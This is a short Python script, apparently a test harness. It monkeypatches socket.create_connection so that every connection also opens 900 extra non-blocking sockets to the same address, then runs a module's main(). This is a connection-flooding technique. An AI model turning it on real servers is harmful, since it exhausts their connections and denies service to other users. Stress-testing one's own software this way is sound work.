import socket

import right

connect = socket.create_connection
extra = []


def create_connection(address):
    first = connect(address)
    for _ in range(900):
        extra.append(socket.socket())
        extra[-1].setblocking(False)
        extra[-1].connect_ex(address)
    return first


socket.create_connection = create_connection
right.main()
